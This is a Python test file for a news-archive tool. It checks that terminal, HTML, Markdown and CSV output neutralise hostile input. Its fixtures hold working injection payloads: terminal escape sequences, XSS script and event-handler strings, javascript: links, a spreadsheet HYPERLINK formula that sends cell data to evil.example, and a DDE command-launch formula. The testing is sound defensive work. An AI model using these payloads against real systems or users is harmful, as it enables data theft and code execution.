"""What articles, names and questions hold comes out as words: on terminals, in HTML, CSV, Markdown and JSON."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from onrecord import Archive, Article, BadInput, OnrecordError, Problem, Span
from onrecord.cli import failures, streams
from onrecord.rendering.article_view import article_view
from onrecord.rendering.attribution_html import attributed_article_html
from onrecord.rendering.claim_view import format_claims
from onrecord.rendering.csv_text import csv_text
from onrecord.rendering.hit_formats import format_hits
from onrecord.rendering.info_view import format_info
from onrecord.rendering.notebook_lists import HitList
from onrecord.rendering.people_view import format_people
from onrecord.rendering.problem_lines import problem_line
from onrecord.rendering.profile_view import format_profile
from onrecord.rendering.progress import Progress
from onrecord.rendering.quote_formats import format_quotes
from onrecord.rendering.safe_text import csv_plain, csv_safe
from onrecord.rendering.text_fragment import text_fragment
from onrecord.rendering.verdict_view import verdict_view
from torture.fuzz_querying import use_small_encoder

ESCAPES = "\x1b[2J\x1b]0;owned\x07\x1b]8;;http://evil.example\x1b\\\x9b31m\u202egnorw\U000e0041\rover\x7f"
TAGS = "<script>alert(1)</script><img src=x onerror=alert(1)>\"'><svg/onload=alert(1)>&lt;b&gt;</mark></style><!--"
MARKS = "[x](javascript:alert(1)) ![y](http://evil.example/y.png) <b>*z*</b> `c` # h | t | ~~d~~ $m$ {{ v }} http://e.example"
FORMULA = '=HYPERLINK("http://evil.example?"&A1,"x")'
EVIL = f"{FORMULA} {ESCAPES} {TAGS} {MARKS}"


def evil_article(number: int, url: str) -> Article:
    """Everything that can be set is hostile; the words around it are found as quotes, people and claims."""
    plain = "The council of the town met on Friday, and it was said that the talks would go on until they agree. "
    text = (
        f"{plain * 6}\n\n“We will not close the ferry {TAGS} {ESCAPES} today {number},” President Ines Carrow said.\n\n"
        f"Minister Ines Carrow, head of the {TAGS} office, said it would cost {number + 3} million euros.\n\n{EVIL}"
    )
    return Article(f"a{number}{EVIL}", text, EVIL, "2021-03-04", EVIL, EVIL, url, {EVIL: EVIL})


@pytest.fixture(scope="module")
def archive() -> Iterator[Archive]:
    """Four articles of that kind, each with another address."""
    use_small_encoder()
    urls = (
        "https://example.org/" + TAGS.replace(" ", ""),
        "javascript:alert(1)",
        "data:text/html,x",
        "https://e.org/a",
    )
    with Archive.in_memory() as made:
        made.add([evil_article(number, url) for number, url in enumerate(urls)])
        yield made


Render = Callable[[Archive, str], str]
FORMS: dict[str, Render] = {
    "hits": lambda archive, fmt: format_hits(archive.search("ferry", 9, explain=True), fmt, terminal=True),
    "quotes": lambda archive, fmt: format_quotes(archive.quotes(), fmt, terminal=True),
    "claims": lambda archive, fmt: format_claims(archive.claims(), fmt, terminal=True),
    "people": lambda archive, fmt: format_people(archive.people(), fmt, terminal=True),
    "profile": lambda archive, fmt: format_profile(archive.person("Ines Carrow"), fmt, terminal=True),
}


def is_harmless(shown: str) -> bool:
    """Whether no character but the newline can do more than be seen."""
    seen = re.sub(r"[\n\u200c\u200d]", "", shown)
    return not any(unicodedata.category(character) in ("Cc", "Cf", "Cs", "Zl", "Zp") for character in seen)


@pytest.mark.parametrize("name", FORMS)
@pytest.mark.parametrize("fmt", ["table", "json", "jsonl", "csv", "markdown"])
def test_nothing_steers_a_terminal(archive: Archive, name: str, fmt: str) -> None:
    """No escape, control or override comes through, in any format a person may look at."""
    try:
        shown = FORMS[name](archive, fmt)
    except BadInput:
        assert (name, fmt) == ("hits", "markdown")
        return
    assert "Carrow" in shown or name == "hits"
    assert is_harmless(shown)


def test_views_problems_progress_and_verdicts_steer_nothing(archive: Archive) -> None:
    """The same for everything else that is printed."""
    article = archive.get(f"a0{EVIL}")
    screen = io.StringIO()
    with Progress(3, EVIL, "articles", stream=screen) as progress:
        progress.note(problem_line(Problem(EVIL, EVIL)))
        progress.advance(1)
    drawn = re.sub(r"\r|\x1b\[[0-9;?]*[A-Za-z]", "", screen.getvalue())
    shown = [
        article_view(article), article_view(article, (Span(0, 40),)), repr(archive.attributed(article.id)),
        verdict_view(archive.verify("We will not close the ferry", speaker=EVIL)), problem_line(Problem(EVIL, EVIL)),
        format_info({EVIL: EVIL, "more": {EVIL: [EVIL]}}, "table"), drawn,
    ]  # fmt: skip
    assert [one for one in shown if not is_harmless(one)] == []


def test_errors_steer_nothing(archive: Archive, capsys: pytest.CaptureFixture[str]) -> None:
    """What was typed may be quoted in errors and warnings; what the command line says of them is printable."""
    wrongs: list[Callable[[], object]] = [
        lambda: archive.get(EVIL), lambda: archive.search("x", since=EVIL), lambda: archive.claims(quantity=EVIL),
    ]  # fmt: skip
    for wrong in wrongs:
        with pytest.raises(OnrecordError) as caught:
            wrong()
        failures.tell(caught.value)
    for warning in archive.understand(f'"{EVIL} since:{EVIL}').warnings:
        streams.warn(warning)
    shown = capsys.readouterr().err
    assert "owned" in shown
    assert is_harmless(shown)


class Seen(HTMLParser):
    """Tags, attributes and addresses of a piece of HTML."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links += [
            value or "" for name, value in attrs if name in ("href", "src", "action", "formaction", "xlink:href")
        ]


OURS = {
    "html", "head", "meta", "title", "style", "body", "main", "div", "h2", "p", "aside", "span", "mark", "b", "sup",
    "strong", "em", "a", "blockquote", "ul", "li", "table", "thead", "tbody", "tr", "th", "td", "cite", "br", "details",
    "summary",
}  # fmt: skip


def test_html_holds_only_our_tags(archive: Archive) -> None:
    """No script, no picture, no handler, no address but web addresses, in every piece of HTML there is."""
    article = archive.get(f"a1{EVIL}")
    found = archive.attributed(article.id)
    page = attributed_article_html(
        article.text, found.attributions, found.speakers, title=EVIL, facts=(EVIL,), url=article.url, page=True
    )
    pieces: list[Any] = [
        HitList(archive.search("ferry", 9)), archive.quotes(), archive.claims(), archive.people(),
        archive.person("Ines Carrow"), found,
    ]  # fmt: skip
    for shown in (page, *(piece._repr_html_() for piece in pieces)):
        seen = Seen(shown)
        assert seen.tags <= OURS, seen.tags - OURS
        assert not [name for name in seen.attributes if name.startswith("on")]
        assert [link for link in seen.links if not link.startswith(("https://", "#"))] == []
        assert is_harmless(shown)
    assert 'http-equiv="Content-Security-Policy"' in page


def test_markdown_holds_only_our_marks(archive: Archive) -> None:
    """Rendered as GitHub would, no picture, no HTML and no link but to web addresses comes out of it."""
    markdown = MarkdownIt("commonmark", {"html": True, "linkify": False}).enable(["table", "strikethrough"])
    for name in ("quotes", "claims", "people", "profile"):
        for token in walk(markdown.parse(FORMS[name](archive, "markdown"))):
            assert token.type not in (
                "html_inline",
                "html_block",
                "image",
                "code_inline",
                "fence",
                "code_block",
                "s_open",
            )
            if token.type == "link_open":
                assert str(token.attrs["href"]).startswith("https://")


FOREIGN = {"html_inline", "html_block", "image", "code_inline", "fence", "code_block", "s_open"}


def walk(tokens: Any) -> Iterator[Any]:
    """Tokens and those inside them."""
    for token in tokens:
        yield token
        yield from walk(token.children or ())


FORMULAS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠x", "'=1", "''@x",
    "=cmd|' /C calc'!A0",
]  # fmt: skip


@pytest.mark.parametrize("cell", FORMULAS)
def test_no_cell_is_a_formula(cell: str) -> None:
    """A spreadsheet shows it as text; a program gets it back by one rule."""
    _, (read,) = csv.reader(io.StringIO(csv_text(["a"], [[cell]]), newline=""))
    assert read == f"'{cell}"
    assert csv_plain(read) == cell


@given(st.text(alphabet="'=+-@\t\r\n＝a1 ", max_size=6) | st.text())
def test_guards_can_be_undone(cell: str) -> None:
    """For every text, also one that looks guarded already."""
    guarded = csv_safe(cell)
    assert csv_plain(guarded) == cell
    assert not re.match(r"[=+\-@\t\r\n＝＋－＠]", guarded)


def test_json_is_exact(archive: Archive) -> None:
    """What is escaped for people elsewhere reads back from JSON as it was, and CSV by the stated rule."""
    rows = [json.loads(line) for line in FORMS["quotes"](archive, "jsonl").splitlines()]
    assert {row["source"] for row in rows} == {EVIL}
    cells = list(csv.DictReader(io.StringIO(format_quotes(archive.quotes(), "csv"), newline="")))
    assert {csv_plain(cell["source"]) for cell in cells} == {EVIL}


@given(st.text(max_size=30), st.text(max_size=80))
def test_links_to_words_lead_to_web_addresses(url: str, text: str) -> None:
    """Never a script, whatever address an article claims to have."""
    for address in (url, f"https://{url}", f"javascript:{url}//https://", f"\x01javascript:{url}", f"HTTPS://{url}"):
        made = text_fragment(address, text, Span(0, len(text) // 2))
        assert made == "" or made.lower().startswith(("http://", "https://"))
        assert not re.search(r"[\s\x00-\x1f\u202e]", made)
